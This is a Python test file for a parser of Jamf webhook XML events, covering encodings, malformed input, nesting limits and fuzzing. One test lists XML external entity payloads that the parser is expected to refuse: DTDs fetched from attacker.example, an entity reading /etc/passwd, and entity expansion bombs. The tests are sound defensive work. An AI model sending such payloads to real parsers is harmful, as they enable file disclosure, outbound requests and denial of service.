"""Jamf's XML deliveries, and XML that is an attack."""

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.errors import MalformedEvent
from domain.xml_body import LATIN1, MAX_DEPTH, MAX_NODES, parse_jss_event, render

DEVICE_ADDED = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<JSSEvent>
  <webhook><id>1</id><name/><webhookEvent>ComputerAdded</webhookEvent></webhook>
  <event>
    <deviceName>Zo\xc3\xab &amp; co &lt;3</deviceName>
    <eventActions><action>login</action><action>startup</action></eventActions>
    <groupAddedDevicesIds>7</groupAddedDevicesIds>
    <room></room>
  </event>
</JSSEvent>"""


def jss_event(event: str) -> str:
    return f"<JSSEvent><webhook><id>1</id></webhook><event>{event}</event></JSSEvent>"


def name_of(body: bytes, charset: str | None = None) -> tuple[str, tuple[str, ...]]:
    parsed = parse_jss_event(body, charset)
    return parsed.document["event"]["name"], parsed.flags


def test_elements_become_the_object_that_the_json_form_gives():
    parsed = parse_jss_event(DEVICE_ADDED)

    assert parsed.flags == ()
    assert parsed.document == {
        "webhook": {"id": "1", "name": "", "webhookEvent": "ComputerAdded"},
        "event": {
            "deviceName": "Zoë & co <3",
            "eventActions": {"action": ["login", "startup"]},
            "groupAddedDevicesIds": "7",
            "room": "",
        },
    }


@pytest.mark.parametrize("event", ["<event/>", "<event></event>", ""])
def test_an_event_that_is_missing_or_empty_is_an_empty_object(event):
    body = f"<JSSEvent><webhook><id>1</id></webhook>{event}</JSSEvent>".encode()

    assert parse_jss_event(body).document == {"webhook": {"id": "1"}, "event": {}}


def test_attributes_comments_and_namespaces_are_left_out():
    body = b"""<j:JSSEvent xmlns:j="urn:j"><!-- one --><webhook a="b"><id>1<!-- two -->2</id></webhook>
    <event><x><![CDATA[<b>]]></x></event><?pi pi?></j:JSSEvent>"""

    assert parse_jss_event(body).document == {"webhook": {"id": "12"}, "event": {"x": "<b>"}}


@pytest.mark.parametrize(
    ("prolog", "codec", "charset", "flags"),
    [
        ("", "utf-8", None, ()),
        ("", "utf-8-sig", "iso-8859-1", ()),
        ("", "utf-16", None, ()),
        ('<?xml version="1.0" encoding="ISO-8859-1"?>', "iso-8859-1", "utf-8", ()),
        ("<?xml version='1.0' encoding='windows-1252'?>", "cp1252", None, ()),
        ("", "iso-8859-1", "ISO-8859-1", ()),
        ("", "iso-8859-1", None, (LATIN1,)),
        ('<?xml version="1.0" encoding="UTF-8"?>', "iso-8859-1", None, (LATIN1,)),
        ('<?xml version="1.0" encoding="punycode"?>', "utf-8", "zlib", ()),
    ],
)
def test_the_encoding_is_told_by_bom_prolog_charset_or_the_bytes(prolog, codec, charset, flags):
    body = (prolog + jss_event("<name>Zoë</name>")).encode(codec)

    assert name_of(body, charset) == ("Zoë", flags)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b" \n",
        b"{}",
        b"text",
        b"\xff\xfe",
        b"<JSSEvent>",
        b"<JSSEvent/>",
        b"<JSSEvent><event/></JSSEvent>",
        b"<JSSEvent><webhook/><event/></JSSEvent>",
        b"<JSSEvent><webhook><id>1</id></webhook><webhook><id>2</id></webhook></JSSEvent>",
        b"<plist><webhook><id>1</id></webhook></plist>",
        jss_event("<a>&nosuch;</a>").encode(),
        jss_event("<a>\x00</a>").encode(),
        jss_event("<a><b></a></b>").encode(),
        DEVICE_ADDED + DEVICE_ADDED,
        DEVICE_ADDED[:-5],
    ],
)
def test_what_is_no_jss_event_is_malformed(body):
    with pytest.raises(MalformedEvent):
        parse_jss_event(body)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE JSSEvent SYSTEM "http://attacker.example/x.dtd">',
        "<!DOCTYPE JSSEvent>",
        '<!DOCTYPE JSSEvent [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE JSSEvent [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE JSSEvent [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_dtd_is_refused_whatever_it_holds(doctype, codec):
    body = (doctype + jss_event("<name>x</name>")).encode(codec)

    with pytest.raises(MalformedEvent, match="DTD"):
        parse_jss_event(body)


def test_depth_is_allowed_up_to_the_limit():
    inner = MAX_DEPTH - 2
    assert parse_jss_event(jss_event("<a>" * inner + "</a>" * inner).encode())

    for levels in (inner + 1, 500_000):
        with pytest.raises(MalformedEvent, match="levels"):
            parse_jss_event(jss_event("<a>" * levels + "</a>" * levels).encode())


def test_the_number_of_elements_is_limited_while_parsing():
    with pytest.raises(MalformedEvent, match="elements"):
        parse_jss_event(jss_event("<a/>" * MAX_NODES).encode())


def test_what_is_rendered_parses_to_the_same():
    document = parse_jss_event(DEVICE_ADDED).document
    document["event"]["odd"] = ["a\r\nb", "<&>\"'", {"x": ["1", "2"]}]

    assert parse_jss_event(render(document)).document == document


def test_json_values_are_rendered_as_jamf_writes_them():
    document = {"webhook": {"id": 1, "on": True, "none": None}, "event": {"ids": [], "bad": "\x00\ud800"}}

    assert parse_jss_event(render(document)).document == {
        "webhook": {"id": "1", "on": "true", "none": ""},
        "event": {} | {"bad": "\ufffd\ufffd"},
    }


PARTS = [
    "<JSSEvent>",
    "</JSSEvent>",
    "<webhook>",
    "</webhook>",
    "<a>",
    "</a>",
    "<a/>",
    "x",
    "&#0;",
    "&amp;",
    "<![CDATA[",
]
PARTS += [
    "]]>",
    "<!--",
    "-->",
    "<!DOCTYPE a>",
    '<?xml version="1.0"?>',
    "<x:a>",
    '<a xmlns="b" b="c">',
    "\ud7ff",
    "\x01",
]


def must_parse_or_be_malformed(*arguments):
    """Anything but a MalformedEvent comes out of here and fails the test."""
    with suppress(MalformedEvent):
        parse_jss_event(*arguments)


@given(st.lists(st.sampled_from(PARTS), max_size=12), st.sampled_from(["utf-8", "utf-16"]), st.text(max_size=8))
def test_no_arrangement_of_xml_raises_anything_else(parts, codec, charset):
    must_parse_or_be_malformed("".join(parts).encode(codec), charset)


@given(st.binary(max_size=200), st.sampled_from([b"", b"<", b"<JSSEvent>", b"<?xml ", b"\xfe\xff"]))
def test_no_bytes_at_all_raise_anything_else(body, head):
    must_parse_or_be_malformed(head + body)
